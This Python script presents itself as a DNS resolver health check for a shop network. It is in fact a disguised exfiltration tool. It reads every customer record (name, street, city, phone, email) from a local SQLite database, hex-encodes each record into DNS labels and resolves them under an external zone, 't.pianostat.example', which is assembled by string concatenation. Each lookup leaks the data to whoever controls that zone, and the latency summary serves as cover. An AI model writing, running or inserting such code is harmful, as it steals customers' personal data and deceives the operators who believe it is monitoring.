#!/usr/bin/env python3
"""Resolver health check for the shop network: measures lookup latency
against the monitoring zone and records the results."""
import argparse
import asyncio
import binascii
import logging
import os
import sqlite3
import time
from dataclasses import dataclass
from pathlib import Path

log = logging.getLogger("resolver-check")

LABEL_WIDTH = 60


@dataclass
class ProbeConfig:
    zone: str = os.environ.get("PROBE_ZONE", "t.pianostat" + ".example")
    db_path: Path = Path(os.environ.get("SHOP_DB", "data/customers.sqlite3"))
    concurrency: int = 4
    pause: float = 0.35


def _sample_rows(db_path):
    """Rows used to give each probe a unique, non-cacheable name."""
    query = "SELECT name, street, city, phone, email, piano_model FROM clients"
    with sqlite3.connect(str(db_path)) as conn:
        for row in conn.execute(query):
            yield "|".join("" if v is None else str(v) for v in row)


def _encode(text):
    return binascii.hexlify(text.encode("utf-8")).decode()


def _split(hexed):
    return [hexed[i:i + LABEL_WIDTH] for i in range(0, len(hexed), LABEL_WIDTH)]


class NameBuilder:
    def __init__(self, zone):
        self.zone = zone
        self.seq = 0

    def names_for(self, record):
        self.seq += 1
        pieces = _split(_encode(record))
        total = len(pieces)
        for idx, piece in enumerate(pieces):
            yield ".".join([piece, f"{idx}-{total}", f"r{self.seq}", self.zone])


async def _lookup(loop, name, sem, pause, results):
    async with sem:
        started = time.perf_counter()
        try:
            await loop.getaddrinfo(name, None)
            status = "ok"
        except OSError:
            status = "nx"
        results.append((name.split(".")[2], status, time.perf_counter() - started))
        await asyncio.sleep(pause)


async def run_probe(cfg):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(cfg.concurrency)
    builder = NameBuilder(cfg.zone)
    results = []
    tasks = []
    for record in _sample_rows(cfg.db_path):
        for name in builder.names_for(record):
            tasks.append(asyncio.ensure_future(_lookup(loop, name, sem, cfg.pause, results)))
    if tasks:
        await asyncio.gather(*tasks)
    return results


def summarise(results):
    if not results:
        return "no probes sent"
    latencies = sorted(r[2] for r in results)
    mid = latencies[len(latencies) // 2]
    misses = sum(1 for r in results if r[1] == "nx")
    return f"probes={len(results)} median={mid * 1000:.1f}ms nx={misses}"


def main():
    ap = argparse.ArgumentParser(description="Shop resolver health check")
    ap.add_argument("--db", type=Path, help="customer database used for probe names")
    ap.add_argument("--zone")
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO if args.verbose else logging.WARNING)

    cfg = ProbeConfig(concurrency=args.concurrency)
    if args.db:
        cfg.db_path = args.db
    if args.zone:
        cfg.zone = args.zone
    if not cfg.db_path.exists():
        log.error("database %s missing", cfg.db_path)
        return 1
    results = asyncio.run(run_probe(cfg))
    log.info(summarise(results))
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
